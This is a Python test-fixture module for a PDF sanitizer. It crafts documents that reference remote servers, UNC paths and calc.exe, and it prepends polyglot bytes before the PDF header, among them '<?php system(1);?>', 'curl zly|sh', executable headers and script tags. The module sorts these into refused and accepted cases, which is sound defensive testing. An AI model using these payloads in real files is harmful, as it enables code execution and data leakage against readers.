"""PDF files that name something outside, and what may stand before their beginning."""

from functools import partial

from pikepdf import Array, Dictionary, Name, String

from common.files.codes import Code
from tests.common.files import craft_office, hostile
from tests.common.files import craft_pdf as craft
from tests.common.files.craft_pdf import action, annotated, attached, on_click, on_opening, pdf

NET, SERVER = "http://zly.example/a", r"\\zly\dane\a.pdf"
ELSEWHERE = {
    "the net": "http://zly.example/a.pdf",
    "a server": SERVER,
    "a server by slashes": "//zly/a.pdf",
    "a server as PDF writes it": "/zly/dane/a.pdf",
    "a server behind a drive": "/C//zly/a.pdf",
    "a server above a drive": "/C/../zly/dane/a.pdf",
    "a device of Windows": r"\\?\UNC\zly\a.pdf",
    "a disk without a letter": r"\Windows\a.pdf",
    "an address of a server's file": "file://zly/a.pdf",
    "an address of a server's file behind slashes": r"file:///\\zly\a.pdf",
    "a folder of a server above": r"..\..\\zly\a.pdf",
    "a program on a drive": r"C:\Windows\System32\calc.exe",
}
ON_A_DRIVE = {
    "Windows": r"C:\Users\jan\uchwala.pdf",
    "PDF": "/C/Users/jan/uchwala.pdf",
    "an address": "file:///S:/Uchwaly/a.pdf",
    "an address with backslashes": r"file:///S:\Uchwa%C5%82y\a.pdf",
}


def _at_root(**values):
    return pdf(lambda document: document.Root.update({f"/{key}": value for key, value in values.items()}))


def _drawn(**values):
    """A drawing of a page."""

    def change(document):
        form = craft.stream(document, b"q Q", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]), **values)
        document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(P=form))

    return pdf(change)


def _to_sign(apart=False, value=None, **wishes):
    """A field that is to be signed, with what it wants of the signature; `apart`: in an object of its own."""

    def change(document):
        wanted = Dictionary(Type=Name.SV, **wishes)
        held = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T=String("Podpis"), Rect=[0, 0, 9, 9])
        held.SV = document.make_indirect(wanted) if apart else wanted
        held.Lock = Dictionary(Type=Name.SigFieldLock, Action=Name.Include, Fields=Array([String("data")]))
        if value is not None:
            held.V = value
        held = document.make_indirect(held)
        document.Root.AcroForm = Dictionary(Fields=Array([held]), SigFlags=3)
        document.pages[0].obj.Annots = Array([held])

    return pdf(change)


def _portfolio(**values):
    def change(document):
        document.Root.Collection = Dictionary(
            Type=Name.Collection, View=Name.D,
            Schema=Dictionary(nazwa=Dictionary(Type=Name.CollectionField, Subtype=Name.F, N=String("Nazwa"))),
            **values,
        )  # fmt: skip
        held = craft.stream(document, pdf(), Type=Name.EmbeddedFile)
        specification = Dictionary(Type=Name.Filespec, F=String("a.pdf"), UF=String("a.pdf"), EF=Dictionary(F=held))
        tree = Dictionary(Names=Array([String("a.pdf"), document.make_indirect(specification)]))
        document.Root.Names = Dictionary(EmbeddedFiles=tree)

    return pdf(change)


def _behind(before):
    return lambda: before + pdf()


def _of_a_mac(name=b"Uchwa\xb8a nr 1.pdf", kind=b"PDF ", numbers=b"", last=b""):
    """The 128 bytes that MacBinary puts before a file: its name, its kind, its dates."""
    written = bytes([0, len(name)]) + name.ljust(63, b"\x00") + kind + b"CARO" + bytes(10)
    written += numbers or (1234).to_bytes(4, "big") + bytes(4) + b"\xe2\x11\x22\x33" * 2
    return written.ljust(122, b"\x00") + b"\x81\x81\xab\xcd" + (last or bytes(2))


def _place_that_is_followed(document):
    """The same array as a place to go to, where nothing acts, and as what follows an action."""
    listed = document.make_indirect(Array([action("URI", URI=String("http://zly.example"))]))
    document.Root.OpenAction = listed
    document.pages[0].obj.AA = Dictionary(O=action("GoTo", Next=listed))


def _long_chain(document):
    """What happens by itself, a thousand steps long, with a page of the net at the end."""
    following = document.make_indirect(action("URI", URI=String("http://zly.example")))
    for _step in range(1500):
        following = document.make_indirect(action("GoTo", Next=following))
    document.Root.OpenAction = following


def _both_by_click_and_by_itself(document):
    shared = document.make_indirect(action("URI", URI=String("http://gmina.pl")))
    craft.annotate(document, Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=shared))
    document.pages[0].obj.AA = Dictionary(O=shared)


def _twice_unpacked():
    """Two documents within that are the same, each a stream of its own."""

    def change(document):
        for key in ("A", "B"):
            held = craft.stream(document, craft_office.docx(), Type=Name.EmbeddedFile)
            document.Root[f"/{key}"] = Dictionary(Type=Name.Filespec, F=String("a.docx"), EF=Dictionary(F=held))

    return pdf(change, compress_streams=False)


TIME = Dictionary(URL=String("http://zly.example/tsa"), Ff=1)
SCRIPTED = on_opening("JavaScript", JS=String("app.alert(1)"))
PORTFOLIO = Dictionary(Type=Name.Navigator, SWF=String("a.swf"), Name=String("a"))

REFUSED = {
    **{
        f"other file of {where}": (partial(on_click, "GoToR", F=String(target)), Code.PDF_OTHER_FILE)
        for where, target in ELSEWHERE.items()
    },
    **{
        f"other file of {where}, described": (
            partial(on_click, "GoToR", F=Dictionary(Type=Name.Filespec, F=String("a.pdf"), UF=String(target))),
            Code.PDF_OTHER_FILE,
        )
        for where, target in ELSEWHERE.items()
    },
    "file within of another file": (
        partial(on_click, "GoToE", F=String(SERVER), T=Dictionary(R=Name.C)),
        Code.PDF_OTHER_FILE,
    ),
    "program of a server": (
        partial(on_click, "Launch", Win=Dictionary(F=String(r"\\zly\a.exe"))),
        Code.PDF_PROGRAM,
    ),
    "thread of another file": (partial(on_click, "Thread", F=String(SERVER)), Code.PDF_OTHER_FILE),
    "file that belongs to it, of the net": (
        partial(_at_root, AF=Array([Dictionary(Type=Name.Filespec, F=String(NET))])),
        Code.PDF_OTHER_FILE,
    ),
    "file that belongs to it, of the net, untyped": (
        partial(_at_root, AF=Array([Dictionary(FS=Name.URL, F=String(NET))])),
        Code.PDF_OTHER_FILE,
    ),
    "file of an annotation, of a server": (
        partial(annotated, Subtype=Name.FileAttachment, FS=String(SERVER)),
        Code.PDF_OTHER_FILE,
    ),
    "file of an annotation, of the net": (
        partial(annotated, Subtype=Name.FileAttachment, FS=Dictionary(F=String(NET))),
        Code.PDF_OTHER_FILE,
    ),
    "links that begin with a script": (
        partial(_at_root, URI=Dictionary(Base=String("javascript:app.alert(1)//"))),
        Code.LINK,
    ),
    "links that begin with a server": (partial(_at_root, URI=Dictionary(Base=String(r"\\zly\dane"))), Code.LINK),
    **{
        f"links that begin with {base}": (partial(_at_root, URI=Dictionary(Base=String(base))), Code.LINK)
        for base in (
            "file:///C:/", "//zly.example/", "calc.exe", "www.zly.example@zly.example/", r"www.gmina.pl\..\\zly\dane",
            "bip", "search-ms:gmina.pl/", "C:/gmina.pl/",
        )
    },
    "program on the author's drive": (partial(on_click, "Launch", F=String("/C/Users/jan/a.pdf")), Code.PDF_PROGRAM),
    "other file of a drive by itself": (
        partial(on_opening, "GoToR", F=String("/C/Users/jan/a.pdf")),
        Code.PDF_OTHER_FILE,
    ),
    "drawing of a file of a drive": (partial(_drawn, F=String("/C/Users/jan/a.bin")), Code.PDF_OTHER_FILE),
    "picture that another takes the place of": (
        partial(_drawn, OPI=Dictionary({"/2.0": Dictionary(Type=Name.OPI, F=String(SERVER))})),
        Code.PDF_OTHER_FILE,
    ),
    "picture that another takes the place of, in the old way": (
        partial(_drawn, OPI=Dictionary({"/1.3": Dictionary(F=Dictionary(F=String("a.tif")))})),
        Code.PDF_OTHER_FILE,
    ),
    "page of another file": (
        partial(_drawn, Ref=Dictionary(F=Dictionary(F=String("a.pdf")), Page=0)),
        Code.PDF_OTHER_FILE,
    ),
    "drawing of another file": (partial(_drawn, F=String("a.bin")), Code.PDF_OTHER_FILE),
    "colours of another file": (
        partial(_at_root, OutputIntents=Array([Dictionary(S=Name.GTS_PDFX, DestOutputProfileRef=Dictionary())])),
        Code.PDF_OTHER_FILE,
    ),
    "signature with the time of a server": (partial(_to_sign, TimeStamp=TIME), Code.PDF_SENDS),
    "signature with the time of a server, apart": (partial(_to_sign, apart=True, TimeStamp=TIME), Code.PDF_SENDS),
    "signature with a certificate of a server": (
        partial(_to_sign, Cert=Dictionary(Type=Name.SVCert, URL=String(NET), URLType=Name.Browser)),
        Code.PDF_SENDS,
    ),
    "signature with an address": (partial(_to_sign, URL=String(NET)), Code.PDF_SENDS),
    "page of the web by itself, at the end of a long chain": (partial(pdf, _long_chain), Code.PDF_SENDS),
    "page of the web by itself, behind a place": (partial(pdf, _place_that_is_followed), Code.PDF_SENDS),
    "page of the web by itself and by a click": (partial(pdf, _both_by_click_and_by_itself), Code.PDF_SENDS),
    "portfolio with a program": (partial(_portfolio, Navigator=PORTFOLIO), Code.PDF_PORTFOLIO),
    **{
        f"{words!r} before the PDF": (_behind(words), Code.PDF_CARRIES)
        for words in (
            b"<script>alert(1)</script>\n", b"\xef\xbb\xbf<script src=//zly></script>", b"<?php system(1);?>\n",
            b"#!/bin/sh\ncurl zly|sh\n", b"\n#!/bin/sh\n", b"MZ\x90\x00", b"\xef\xbb\xbfMZ\x90\x00", b"\x7fELF\x02",
            b"alert(1);/*", b"=1;alert(1)//", b"@echo off\r\nstart calc\r\nrem ", b"start calc & rem ", b"import os\n#",
            b"CreateObject(\"WScript.Shell\")\n'", b"GIF89a", b"BM", b"{\\rtf1 ", b"%!PS-Adobe-3.0\n", b"calc\r\n",
            b"Content-Type: text/html\r\n\r\n<html>", b"X-A: a; calc\r\n", b"X-A: `calc`\r\n", b"X-A: a | sh\n",
            b"javascript:alert(1)\n", b"Date: alert(1)\n", b"@PJL X <script>\r\n", b"Content-Type: a\r\nalert(1)\r\n",
            b"\x1b%-12345X@PJL JOB\r\nMZ\x90\x00", b"\x01\x02\x03\x04", b"Rar!\x1a\x07",
            b"Date: alert(CET)\n", b"Date: a1 = eval\nDate: a1 (name)\n", b"Date: +0100 (CET);calc()\n",
            b"Server: alert (Unix)\n", b"Age: alert(1)\n", b"Pragma: `calc`\n", b"Vary: a | calc\n",
            b"Via: alert (name)\n", b"Via: 1.1 a (alert(1))\n", b"Set-Cookie: a=b; calc\n",
            b"Set-Cookie: a=b; path=/ calc\n",
            b"Set-Cookie: a=b; expires=Wed calc\n", b"Set-Cookie: a=alert(1)\n", b"cafe\r\n", b"\r\n\r\ncalc\r\n",
            b"\r\n\r\n1f40;calc\r\n", b"\r\n\r\n1f40\r\ncalc\r\n", b"0;calc\n", b"0 calc\n", b"0||calc\n", b"1;\n",
        )
    },
    **{
        f"a Mac's head {what} before the PDF": (_behind(head), Code.PDF_CARRIES)
        for what, head in {
            "of a program": _of_a_mac(kind=b"APPL"),
            "that begins as a program": b"MZ" + _of_a_mac()[2:],
            "cut short": _of_a_mac()[:-1],
            "with a script for a name": _of_a_mac(b"<script>alert(1)</script>"),
            "with a script for its numbers": _of_a_mac(numbers=b"<script>x()"),
            "with a program for its numbers": _of_a_mac(last=b"\x00MZ\x90"),
        }.items()
    },
    "attached PDF with a script behind a line end": (lambda: attached(b"\n" + SCRIPTED, "a.pdf"), Code.PDF_ATTACHMENT),
    "attached PDF with a script behind a mark, without its ending": (
        lambda: attached(b"\xef\xbb\xbf" + SCRIPTED, "a.bin"),
        Code.PDF_ATTACHMENT,
    ),
    "attached PDF behind words": (lambda: attached(b"calc\r\n" + pdf(), "a.pdf"), Code.PDF_ATTACHMENT),
}  # fmt: skip

LETTER = (
    b"From: urzad@gmina.pl\r\nDate: Mon, 2 Feb 2026 10:00:00 +0100\r\nMIME-Version: 1.0\r\n"
    b'Content-Type: application/pdf; name="uchwala nr 1.pdf"\r\nContent-Transfer-Encoding: binary\r\n'
    b'Content-Disposition: attachment;\r\n filename="uchwala.pdf"; size=1234\r\nX-Mailer: Poczta 2.0 (Windows)\r\n\r\n'
)
PRINTER = (
    b"\x1b%-12345X@PJL JOB NAME=\"Uchwa\xb3a\"\r\n@PJL SET RESOLUTION=600\r\n@PJL SET DUPLEX=ON\r\n"
    b"@PJL ENTER LANGUAGE=PDF\r\n"
)  # fmt: skip

SERVER_HEAD = (
    b"HTTP/1.1 200 OK\r\nDate: Mon, 02 Feb 2026 10:00:00 GMT\r\nServer: Apache/2.4.52 (Ubuntu) OpenSSL/3.0.2\r\n"
    b"Set-Cookie: JSESSIONID=0A1B-2c.n1; Path=/bip; Expires=Wed, 21 Oct 2026 07:28:00 GMT; HttpOnly; Secure;"
    b" SameSite=Lax\r\nKeep-Alive: timeout=5, max=100\r\n"
    b"Pragma: no-cache\r\nVary: Accept-Encoding, User-Agent\r\nAge: 12\r\n"
    b"Via: 1.1 proxy.gmina.pl:3128 (squid/3.5.27), 1.1 b\r\n"
    b"Content-Type: application/pdf\r\nTransfer-Encoding: chunked\r\n\r\n"
)

TAKEN = {
    **{
        f"with a link to a file of the author's drive, as in {form}": partial(on_click, "GoToR", F=String(target))
        for form, target in ON_A_DRIVE.items()
    },
    **{
        f"with a link to a file of the author's drive, as in {form}, described": partial(
            on_click, "GoToR", F=Dictionary(Type=Name.Filespec, F=String(target), UF=String(target))
        )
        for form, target in ON_A_DRIVE.items()
    },
    **{
        f"with links that begin with {base}": partial(_at_root, URI=Dictionary(Base=String(base)))
        for base in ("www.gmina.pl/", "gmina.pl", "bip.gmina.pl:8080/pliki/", "www.firma.com")
    },
    "a server's whole head before the head": _behind(SERVER_HEAD),
    "a server's whole head and the length of its first part before the head": _behind(SERVER_HEAD + b"1f40\r\n"),
    "a letter's date with the name of its zone before the head": _behind(
        b"From: urzad@gmina.pl\r\nDate: Mon, 2 Feb 2026 10:00:00 +0100 (CET)\r\nSubject: Wniosek\r\n\r\n"
    ),
    "a Mac's head before the head": _behind(_of_a_mac()),
    "a Mac's head of the third kind before the head": _behind(
        _of_a_mac(numbers=(1234).to_bytes(4, "big") + bytes(4) + b"\xe2\x11\x22\x33" * 2 + bytes(3) + b"mBIN")
    ),
    "a zero on its own line before the head": _behind(b"0\n"),
    "with a link to a document beside, described": partial(
        on_click, "GoToR", F=Dictionary(Type=Name.Filespec, F=String("a.pdf"), UF=String("uchwała.pdf")), D=Array([0])
    ),
    "with a link to a document in a folder below": partial(on_click, "GoToR", F=String("zalaczniki/a.pdf")),
    "with a link to a file of the office": partial(on_click, "URI", URI=String("file:///S:/Uchwaly/a.pdf")),
    "with links that begin with a page": partial(_at_root, URI=Dictionary(Base=String("https://gmina.pl/bip/"))),
    "with links that begin with nothing": partial(_at_root, URI=Dictionary(Base=String(""))),
    "with a drawing": _drawn,
    "with a drawing that says where it comes from": partial(
        _drawn, PieceInfo=Dictionary(Program=Dictionary(Private=String(r"\\serwer\rysunki\a.tif")))
    ),
    "with colours within": lambda: pdf(
        lambda d: setattr(
            d.Root,
            "OutputIntents",
            Array(
                [Dictionary(S=Name.GTS_PDFA1, DestOutputProfile=craft.stream(d, b"x", N=3), RegistryName=String(NET))]
            ),
        )
    ),
    "to be signed, and then locked": partial(_to_sign, Ff=1, Reasons=Array([String("Akceptuję")])),
    "to be signed with a digest of a kind": partial(_to_sign, apart=True, DigestMethod=Array([String("SHA256")])),
    "signed, with the time of a server once wanted": partial(
        _to_sign, TimeStamp=TIME, value=Dictionary(Type=Name.Sig, Contents=String("\x00" * 64))
    ),
    "portfolio": _portfolio,
    "the same document within, twice": _twice_unpacked,
    "a letter's head before the head": _behind(LETTER),
    "a server's head before the head": _behind(
        b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: application/pdf\r\nContent-Length: 1234\r\n\r\n"
    ),
    "a border of a letter before the head": _behind(b"--=_NextPart_000\r\nContent-Type: application/pdf\r\n\r\n"),
    "a printer's job before the head": _behind(PRINTER),
    "a printer's mark before the head": _behind(b"\x1b%-12345X"),
    "a printer's reset before the head": _behind(b"\x1bE\x1b%-12345X@PJL ENTER LANGUAGE = PDF\n"),
    "a mark and line ends before the head": _behind(b"\xef\xbb\xbf\r\n \t\r\n"),
    "zeros before the head": _behind(b"\x00" * 600),
    "attached PDF behind a mark of its encoding": lambda: attached(b"\xef\xbb\xbf" + pdf(), "zalacznik.pdf"),
    "attached text about PDF": partial(attached, b"Plik zaczyna sie od znaku %PDF-1.7 i tyle.", "notatka.txt"),
    "attached picture beside": lambda: attached(hostile.picture("JPEG"), "herb.jpg", road="annotation"),
    "attached document described twice": lambda: attached(craft_office.docx(), "zrodlo.docx", road="af"),
}
